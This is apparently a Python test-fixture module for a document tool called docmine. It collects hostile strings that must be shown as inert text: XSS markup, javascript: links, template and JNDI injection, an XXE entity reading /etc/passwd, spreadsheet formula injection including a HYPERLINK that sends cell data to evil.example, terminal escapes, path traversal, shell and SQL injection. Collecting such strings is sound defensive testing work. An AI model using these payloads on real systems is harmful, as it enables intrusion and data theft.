"""Texts that a publication may hold and that must come out as text, wherever docmine shows them, by what they attack.

None is taken from a real document. What a text would do is said where it is not plain.
"""

from __future__ import annotations

import unicodedata

MARKUP = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<b>bold</b> & <i>italic</i>",
    "</td></tr></table><h1>Ours</h1>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<!-- comment --><p>after",
    "--><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><?xml-stylesheet href='x'?>",
    "<!DOCTYPE html><html><body>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=evil.swf><embed src=evil.swf>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<form action=https://evil.example/><input name=csrf><button>Go</button></form>",
    "<details open ontoggle=alert(1)>",
    "<a href=https://evil.example/ onclick=alert(1)>click</a>",
    "<math><mtext></p><style><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<",
    "a < b > c & d",
    "<<b>>",
    "< script >alert(1)< / script >",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
)
ATTRIBUTES = (
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" autofocus onfocus=alert(1) x="',
    "` onmouseover=alert(1) `",
    "x onload=alert(1)",
    '"/><svg/onload=alert(1)>',
    "\"'`<>&",
    '" style="position:fixed;inset:0" "',
)
ENTITIES = (
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;script&#x3e;",
    "&amp;lt;b&amp;gt;",
    "&nbsp;&copy;&notanentity;",
    "&",
    "AT&T; R&D &c.",
    "&#0;&#xD800;&#x110000;",
    "&Tab;&NewLine;",
    "<!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
)
LINKS = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript://example.org/%0aalert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "blob:https://example.org/1",
    "view-source:javascript:alert(1)",
    "//evil.example/x",
    "\\\\evil.example\\share\\x",
    'https://example.org/" onclick="alert(1)',
    "https://example.org/'><script>alert(1)</script>",
    "https://good.example@evil.example/",
    "https://[not-an-address/",
    "http://",
    "mailto:a@example.org?subject=x%0d%0aBcc:b@example.org",
    "internal:Documents!A1",
    "external:c:\\windows\\system32\\calc.exe",
)
TEMPLATES = (
    "{{ 7 * 7 }}",
    "{% raw %}{{ config }}{% endraw %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{# comment #}",
    "${7*7}",
    "#{7*7}",
    "<%= 7 * 7 %>",
    "{0.__class__} {name!r} %(name)s %s",
    "{{{{",
    "[[ x ]] ${jndi:ldap://evil.example/x}",
)
SVG_AND_CSS = (
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><use href='data:image/svg+xml,<svg id=x/>#x'>",
    "</text></svg><script>alert(1)</script>",
    "<foreignObject><body onload=alert(1)>",
    "<style>*{display:none}</style>",
    "background:url(https://evil.example/x)",
    "expression(alert(1))",
    "</style>*{background:url(javascript:alert(1))}",
    "@import 'https://evil.example/x.css';",
    "\\3c script\\3e",
)
FORMULAS = (
    "=1+1",
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "=cmd|'/C calc'!A0",
    "+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    '=IMPORTXML("https://evil.example/","//a")',
    '=WEBSERVICE("https://evil.example/")',
    '=DDE("cmd";"/C calc";"x")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1",
    "－1+1",
    "＠SUM(1)",
    "'=1+1",
    '"=1+1"',
    '"=1+1',
    "{=1+1}",
    "=",
    "-",
    "+44 121 496 0000",
    "-5%",
    "@OfficialCouncil",
    "%0A=1+1",
    "x;=1+1",
    "x,=1+1",
    "x\t=1+1",
    "x|=1+1",
    'x",=1+1,"y',
    "x\r\n=1+1",
    "x\n=1+1,2",
)
CSV = (
    'She said "yes"',
    '""',
    '"',
    ",",
    ";",
    "a,b;c\td|e",
    "two\nlines",
    "two\r\nlines",
    "one\rover",
    '",",',
    "' ; '",
)
BIDI = (
    "\u202egnp.exe",
    "\u202dleft\u202c",
    "\u2066isolated\u2069 \u2067x\u2069",
    "\u200eleft \u200fright \u061cArabic",
    "invoice\u202efdp.exe",
    "שלום =1+1",
    "مرحبا <b>",
    "if (admin\u202e \u2066) {\u2069 \u2066",
)
CONTROL = (
    "\x00",
    "a\x00b",
    "a\x08\x08b",
    "a\x7fb",
    "\x0b\x0c",
    "\x1a",
    "\x85next line",
    "\x80\x9f",
    "\ufffe\uffff",
    "\ufdd0\U0001fffe",
    "half \ud800 a pair",
    "\udfff",
    "\ud83d alone",
    "line\u2028separator\u2029paragraph",
)
TERMINAL = (
    "\x1b[31mred\x1b[0m",
    "\x1b[2J\x1b[H",
    "\x1b]0;title\x07",
    "\x1b]8;;https://evil.example/\x1b\\link\x1b]8;;\x1b\\",
    "\x1b]52;c;ZWNobyBoaQ==\x07",
    "\x9b31m",
    "\x9d0;title\x9c",
    "\x1bP$q\x1b\\",
    "\x1b[6n",
    "\x1b(0",
    "[bold red]rich[/]",
    "[link=https://evil.example/]click[/link]",
    "[/] [/bold] [ not a tag",
    "\\[escaped] :warning: :smile:",
    "\x0e\x0f",
    "over\rwritten",
)
INVISIBLE = (
    "zero\u200bwidth\u200cnon\u200djoiner",
    "\u2060word\u2060joiner",
    "soft\u00adhyphen",
    "\ufeffmark of order",
    "\u2063\u2064invisible",
    "e\u0301 \u0301\u0301\u0301 combined",
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢",
    "\U000e0067\U000e0062 tags",
    "🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
    "👨\u200d👩\u200d👧",
)
LONG = (
    "x" * 40_000,
    "<" * 5_000,
    "😀" * 20_000,
    "a " * 20_000,
    "=" * 300,
)
PATHS = (
    "../../etc/passwd",
    "..\\..\\windows\\system32",
    "C:\\fakepath\\a.pdf",
    "CON",
    "a.pdf\x00.html",
    "a b#c?d=e&f%20g.pdf",
    "%2e%2e%2f%00",
    "~/.ssh/id_rsa",
    "$(touch x) `touch x` ; touch x",
    "--index=/etc/passwd",
    "' OR 1=1; DROP TABLE documents; --",
    "_x0041_ _xFFFE_",
)

GROUPS: dict[str, tuple[str, ...]] = {
    "markup": MARKUP,
    "attributes": ATTRIBUTES,
    "entities": ENTITIES,
    "links": LINKS,
    "templates": TEMPLATES,
    "svg and css": SVG_AND_CSS,
    "formulas": FORMULAS,
    "csv": CSV,
    "bidi": BIDI,
    "control": CONTROL,
    "terminal": TERMINAL,
    "invisible": INVISIBLE,
    "long": LONG,
    "paths": PATHS,
}
TEXTS: dict[str, str] = {f"{group} {n}": text for group, texts in GROUPS.items() for n, text in enumerate(texts, 1)}
"""Every text by what a test calls it."""


def unsafe(text: str) -> set[str]:
    """The characters of a text that must reach nobody as they are."""
    turning = {"LRE", "RLE", "LRO", "RLO", "PDF", "LRI", "RLI", "FSI", "PDI"}
    return {
        character
        for character in set(text)
        if (unicodedata.category(character) == "Cc" and character not in "\t\n")
        or unicodedata.category(character) == "Cs"
        or unicodedata.bidirectional(character) in turning
        or character in "\u200e\u200f\u061c\ufffe\uffff"
    }


def replaced(text: str) -> str:
    """What a reader may expect of a text: a sign in place of each character that must not get through."""
    bad = unsafe(text)
    return "".join("\ufffd" if character in bad else character for character in text)
